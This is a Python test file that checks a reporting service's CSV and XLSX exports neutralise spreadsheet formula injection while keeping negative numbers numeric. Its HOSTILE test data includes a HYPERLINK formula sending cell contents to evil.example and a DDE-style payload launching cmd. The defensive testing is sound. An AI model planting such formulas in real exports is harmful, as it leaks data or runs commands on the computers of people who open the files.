"""Exports never carry a live spreadsheet formula (OWASP "CSV injection"): every text cell
that starts with `=`, `+`, `-`, `@`, a tab or a carriage return comes out behind a `'`, in the
CSV and in the XLSX, while numbers, negative ones too, stay numbers."""

import csv
import datetime as dt
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from services.reporting.domain.evaluation import (
    DurationStats,
    Evaluation,
    Filters,
    NeedsBlock,
    SecondmentsBlock,
    UnitGroup,
)
from services.reporting.entrypoints.exports import to_csv, to_xlsx
from shared.spreadsheets import FORMULA_STARTS

HOSTILE = (
    '=HYPERLINK("https://evil.example/?d="&A1,"open")',
    "+1+2",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
"""Text an export could carry if a group code or a phase id were ever taken from a user."""


def _secondments(started: int) -> SecondmentsBlock:
    return SecondmentsBlock(
        started=started, active=0, ended=0, completed=0, terminated_early=0, overdue=0, officials=0
    )


def _evaluation() -> Evaluation:
    """An evaluation whose phase, filter and home-unit groups are hostile text, and whose
    figures include negative numbers."""
    needs = NeedsBlock(
        raised=0,
        withdrawn=0,
        filled=0,
        open=0,
        positions_requested=0,
        positions_filled=0,
        fill_rate=None,
    )
    return Evaluation(
        phase_id=HOSTILE[0],
        as_of=dt.date(2025, 12, 31),
        filters=Filters(home_unit=HOSTILE[1], sector=HOSTILE[3]),
        needs=needs,
        secondments=_secondments(-7),
        duration_days=DurationStats(mean=-1.5, median=None, max=None),
        ratings={"EXCELLENT": -4},
        post_arrangements={},
        promotion_rate=None,
        by_home_unit={
            code: UnitGroup(secondments=_secondments(-3), promoted=-1) for code in HOSTILE
        },
        by_host_unit={},
        by_sector={},
        by_ethnicity={},
        by_gender={HOSTILE[2]: UnitGroup(secondments=_secondments(2), promoted=0)},
        small_cell_threshold=5,
    )


def _assert_no_formula(text: str) -> None:
    assert not text.startswith(FORMULA_STARTS), repr(text)


@pytest.mark.parametrize("lang", ["vi", "en"])
def test_the_csv_neutralises_every_formula_and_keeps_negative_numbers(lang: str) -> None:
    text = to_csv(_evaluation(), lang).decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(text, newline="")))
    for line in lines:
        for cell in line:
            if cell.lstrip("-").replace(".", "", 1).isdigit():
                continue  # a number
            _assert_no_formula(cell)
    assert all(len(line) == 5 for line in lines[1:]), "a carriage return split a row"
    assert lines[0][1] == "'" + HOSTILE[0]
    groups = {row[1] for row in lines[2:] if row[0] == "by_home_unit"}
    assert groups == {"'" + code for code in HOSTILE}
    figures = {(r[0], r[1], r[2]): r[4] for r in lines[2:]}
    assert figures[("secondments", "", "started")] == "-7"
    assert figures[("duration_days", "", "mean")] == "-1.5"
    assert figures[("ratings", "", "EXCELLENT")] == "-4"
    assert figures[("by_home_unit", "'+1+2", "secondments.started")] == "-3"


@pytest.mark.parametrize("lang", ["vi", "en"])
def test_the_xlsx_holds_no_formula_and_keeps_negative_numbers(lang: str) -> None:
    book = load_workbook(io.BytesIO(to_xlsx(_evaluation(), lang)))
    numbers: list[Any] = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    _assert_no_formula(cell.value)
                elif isinstance(cell.value, int | float):
                    assert cell.data_type == "n"
                    numbers.append(cell.value)
    summary = book.worksheets[0]
    assert summary["B1"].value == "'" + HOSTILE[0]
    units = book["by_home_unit"]
    codes = [str(row[1]) for row in units.iter_rows(min_row=3, values_only=True)]
    # A carriage return reads back as a line feed through the standard library's XML parser,
    # as itself through lxml (which python-docx brings): either is the same text.
    assert sorted(c.replace("\r", "\n") for c in codes) == sorted(
        "'" + code.replace("\r", "\n") for code in HOSTILE
    )
    assert {-7, -1.5, -4, -3, -1} <= set(numbers)
    gender = book["by_gender"]
    assert [row[0] for row in gender.iter_rows(min_row=3, values_only=True)] == ["'-2+3"]
